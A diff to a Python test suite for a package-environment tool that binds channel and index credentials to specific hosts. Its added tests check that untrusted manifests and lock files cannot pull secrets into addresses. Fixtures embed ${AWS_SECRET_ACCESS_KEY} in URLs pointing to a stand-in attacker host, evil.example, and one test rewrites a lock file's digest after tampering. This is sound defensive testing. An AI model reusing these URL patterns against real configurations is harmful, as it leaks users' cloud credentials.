@@ -2,15 +2,18 @@
 
 from __future__ import annotations
 
+import re
 from base64 import b64encode
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler
 from pathlib import Path
+from urllib.parse import quote, urlsplit
 
 import pytest
 
 from envgen.cli.options import services_for
 from envgen.install.fetch import Sources
+from envgen.lock.custom_metadata import DIGEST_PLACEHOLDER, with_digest
 from envgen.project.project import locked_environment
 from envgen.project.services import with_indexes
 from tests.fakes.index_server import IndexServer
@@ -53,14 +56,19 @@ def private() -> Iterator[IndexServer]:
 @pytest.fixture
 def demo(living: Project, channel: LoopbackChannel, private: IndexServer) -> Project:
     living.index.add(build_wheel("theirs", "1.0"))
-    address = channel.url.replace("//", "//${CH_USER}:${CH_WORD}@").replace("/channel", "/t/${CH_SIGN}/channel")
-    index = private.url.replace("//", "//${IDX_USER}:${IDX_WORD}@").rstrip("/")
-    living.manifest("ours", "six", more=f"channels:\n  - {address}\nindexes:\n  - {index}\n")
+    living.manifest("ours", "six", more=f"channels:\n  - {channel.url}\nindexes:\n  - {private.url.rstrip('/')}\n")
     living.monkeypatch.delenv("ENVGEN_MIRRORS")
-    variables = {"CH_USER": "ada-of-the-channel", "CH_WORD": WORD, "CH_SIGN": SIGN, "IDX_USER": "user"}
-    for name, value in {**variables, "IDX_WORD": PASSWORD}.items():
-        living.monkeypatch.setenv(name, value)
+    bind(living, channel, private)
     return living
+
+
+def bind(project: Project, channel: LoopbackChannel, private: IndexServer, **others: str | None) -> None:
+    """Say which secrets are for which host; `others` take the place of the right ones."""
+    values = {"login": f"ada-of-the-channel:{WORD}", "sign": f"/t/{SIGN}", "index": f"user:{quote(PASSWORD)}"} | others
+    channel_host, index_host = (urlsplit(each.url).netloc for each in (channel, private))
+    hosts = {"login": channel_host, "sign": channel_host, "index": index_host}
+    tokens = " ".join(f"{hosts[key]}={value}" for key, value in values.items() if value)
+    project.monkeypatch.setenv("ENVGEN_TOKENS", tokens)
 
 
 def left(project: Project, *answers: Answer) -> list[str]:
@@ -90,9 +98,9 @@ def test_both_serve_and_leave_nothing(demo: Project, channel: LoopbackChannel, p
     assert left(demo, locked, again, *others, *exports) == []
 
 
-def test_files_hold_the_names_of_the_variables(demo: Project, private: IndexServer) -> None:
+def test_files_hold_the_addresses_alone(demo: Project, private: IndexServer) -> None:
     assert demo.run("lock").code == 0
-    index = private.url.replace("//", "//${IDX_USER}:${IDX_WORD}@").rstrip("/")
+    index = private.url.rstrip("/")
     assert f"      - '--extra-index-url {index}'\n" in (demo.folder() / "environment.yml").read_text()
     lock = (demo.folder() / "conda-lock.yml").read_text()
     assert f"    indexes: {index}\n" in lock
@@ -108,20 +116,19 @@ def test_the_index_comes_first(demo: Project, private: IndexServer) -> None:
 
 
 @pytest.mark.parametrize(
-    ("variable", "value", "said"),
+    ("what", "value", "said"),
     [
-        pytest.param("IDX_WORD", "wr0ng-w0rd", "127.0.0.1", id="index, refused"),
-        pytest.param("IDX_WORD", None, "needs the environment variable IDX_WORD", id="index, not set"),
-        pytest.param("CH_WORD", "wr0ng-w0rd", "refuses to be read: 401", id="channel, refused"),
-        pytest.param("CH_SIGN", "wr0ng-w0rd", "refuses to be read: 401", id="channel's token, refused"),
-        pytest.param("CH_WORD", None, "needs the environment variable CH_WORD", id="channel, not set"),
+        pytest.param("index", "user:wr0ng-w0rd", "127.0.0.1", id="index, refused"),
+        pytest.param("index", None, "ENVGEN_TOKENS", id="index, not bound"),
+        pytest.param("login", "ada-of-the-channel:wr0ng-w0rd", "refuses to be read: 401", id="channel, refused"),
+        pytest.param("sign", "/t/wr0ng-w0rd", "refuses to be read: 401", id="channel's token, refused"),
+        pytest.param("login", None, "ENVGEN_TOKENS='HOST=TOKEN'", id="channel, not bound"),
     ],
 )
-def test_failures_say_nothing(demo: Project, variable: str, value: str | None, said: str) -> None:
-    if value is None:
-        demo.monkeypatch.delenv(variable)
-    else:
-        demo.monkeypatch.setenv(variable, value)
+def test_failures_say_nothing(
+    demo: Project, channel: LoopbackChannel, private: IndexServer, what: str, value: str | None, said: str
+) -> None:
+    bind(demo, channel, private, **{what: value})
     answers = [demo.run("lock"), demo.run("lock", "--json"), demo.run("lock", "-v")]
     assert [answer.code for answer in answers] == [1, 1, 1]
     assert said in answers[0].err
@@ -153,7 +160,7 @@ def test_an_address_on_the_command_line(demo: Project, channel: LoopbackChannel)
     [
         ("https://me:secret@example.org/simple", "a password or token does not belong in a file that is committed"),
         ("https://me@example.org/simple", "a password or token does not belong"),
-        ("https://${USER}@example.org/${TOKEN}/simple", "not a package index"),
+        ("https://${USER}@example.org/${TOKEN}/simple", "no environment variable is filled into an address"),
         ("ftp://example.org/simple", "not a package index"),
         ("example.org/simple", "not a package index"),
         ("https://example.org/simple?x=1", "not a package index"),
@@ -186,7 +193,7 @@ def test_explicit_files_keep_the_indexes(demo: Project) -> None:
     path = demo.folder() / "envgen.yaml"
     path.write_text(path.read_text() + "outputs: [explicit]\n")
     demo.lock()
-    assert "--extra-index-url http://${IDX_USER}" in (demo.folder() / "requirements.osx-arm64.txt").read_text()
+    assert "--extra-index-url http://127.0.0.1:" in (demo.folder() / "requirements.osx-arm64.txt").read_text()
     assert demo.run("check").code == 0
     assert left(demo) == []
 
@@ -210,3 +217,97 @@ def test_wheels_are_fetched_with_the_password(demo: Project, private: IndexServe
     answer = demo.run("vendor", "demo", "--download", "--to", str(demo.root / "vendored"))
     assert "404" in answer.err  # the channel has an index alone
     assert left(demo, answer) == []
+
+
+AWS = "AWS_SECRET_ACCESS_KEY"
+STRANGERS = {
+    "a channel's user": ("channels:\n  - https://${V}@evil.example/c\n", "evil.example=V"),
+    "a channel's password": ("channels:\n  - https://me:${V}@evil.example/c\n", "evil.example=USER:V"),
+    "a channel's token": ("channels:\n  - https://evil.example/t/${V}/c\n", "evil.example=/t/V"),
+    "a channel's host": ("channels:\n  - https://${V}.evil.example/c\n", ""),
+    "a channel's path": ("channels:\n  - https://evil.example/${V}\n", ""),
+    "an index's user": ("indexes:\n  - https://${V}:x@evil.example/s\n", "evil.example=V:TOKEN"),
+    "an index's path": ("indexes:\n  - https://evil.example/${V}/s\n", ""),
+}
+
+
+@pytest.mark.parametrize(("more", "line"), STRANGERS.values(), ids=STRANGERS)
+@pytest.mark.parametrize("command", ["lock", "check", "create"])
+def test_a_strangers_manifest_gets_no_variable(living: Project, more: str, line: str, command: str) -> None:
+    living.manifest("six", more=more.replace("${V}", f"${{{AWS}}}"))
+    living.monkeypatch.setenv(AWS, "ch4nnel-w0rd")
+    answer = living.run(command, "demo")
+    assert answer.code == 1
+    said = answer.out + answer.err
+    assert "envgen.yaml" in said
+    assert "no environment variable is filled into an address" in said
+    line = re.sub(r"\bV\b", AWS, line)
+    assert (f"and set ENVGEN_TOKENS='{line}'" if line else "write the address out") in said
+    assert not told(said)
+
+
+def test_all_old_addresses_of_a_manifest_are_named_at_once(living: Project) -> None:
+    more = (
+        "channels:\n  - https://${A}@one.example/c\n  - https://two.example/t/${B}/c\nindexes: ['https://${C}@h/s']\n"
+    )
+    living.manifest("six", more=more)
+    answer = living.run("lock")
+    for host in ("one.example=A", "two.example=/t/B", "h=C"):
+        assert f"ENVGEN_TOKENS='{host}'" in answer.err
+
+
+@pytest.mark.parametrize("outputs", ["[conda-lock.yml]", "[explicit]"])
+@pytest.mark.parametrize("place", ["indexes", "channel"])
+@pytest.mark.parametrize(
+    "words", [["check", "--deep"], ["create"], ["create", "--with", "conda"], ["export", "-f", "requirements"]]
+)
+def test_a_strangers_lock_gets_no_variable(demo: Project, outputs: str, place: str, words: list[str]) -> None:
+    """Whoever edits a lock can make its digest right, too."""
+    path = demo.folder() / "envgen.yaml"
+    path.write_text(path.read_text() + f"outputs: {outputs}\n")
+    demo.lock()
+    demo.monkeypatch.setenv(AWS, "ch4nnel-w0rd")
+    name = "conda-lock.yml" if "conda" in outputs else "explicit.osx-arm64.txt"
+    text = (demo.folder() / name).read_text()
+    target = r"indexes: http://" if place == "indexes" else r"(?:channels: |- url: )http://"
+    text, count = re.subn(target, lambda match: f"{match[0]}${{{AWS}}}@", text, count=1)
+    assert count == 1
+    (demo.folder() / name).write_text(with_digest(re.sub(r"file_digest: sha256:\w+", DIGEST_PLACEHOLDER, text)))
+    tools = demo.root / "tools"
+    tools.mkdir()
+    (tools / "conda").write_text("#!/bin/sh\nexit 0\n")
+    (tools / "conda").chmod(0o755)
+    demo.monkeypatch.setenv("PATH", str(tools), prepend=":")
+    answer = demo.run(words[0], "demo", *words[1:])
+    assert answer.code == 1, answer
+    assert "an address with a secret or a variable in it" in answer.out + answer.err
+    assert not told(answer.out + answer.err)
+
+
+def test_an_old_lock_is_mended_and_keeps_its_versions(demo: Project, private: IndexServer) -> None:
+    """Those of before named variables in `indexes`: nothing of theirs is filled in, and nothing need move."""
+    demo.lock()
+    file = demo.folder() / "conda-lock.yml"
+    text = file.read_text().replace("    indexes: http://", "    indexes: http://${IDX_USER}:${IDX_WORD}@")
+    file.write_text(with_digest(re.sub(r"file_digest: sha256:\w+", DIGEST_PLACEHOLDER, text)))
+    private.add(build_wheel("ours", "2.0", requires=["theirs", "six"]))
+    answer = demo.run("lock")
+    assert answer.code == 0, answer.err
+    assert "an address with a secret or a variable in it" in answer.err + answer.out
+    assert "ours-1.0-py3" in file.read_text()
+    assert "${" not in file.read_text()
+
+
+def test_look_alikes_get_nothing(living: Project, channel: LoopbackChannel) -> None:
+    """The same machine by another name or port is another host."""
+    living.monkeypatch.delenv("ENVGEN_MIRRORS")
+    for tokens in (
+        f"127.0.0.1:{channel.port + 1}",
+        f"localhost:{channel.port}",
+        "127.0.0.1",
+        f"127.0.0.2:{channel.port}",
+    ):
+        living.monkeypatch.setenv("ENVGEN_TOKENS", f"{tokens}=ada-of-the-channel:{WORD} {tokens}=/t/{SIGN}")
+        living.manifest("six", more=f"channels:\n  - {channel.url}\n")
+        assert "refuses to be read: 401" in living.run("lock").err
+    assert not any("authorization" in seen.headers or "/t/" in seen.path for seen in channel.seen)
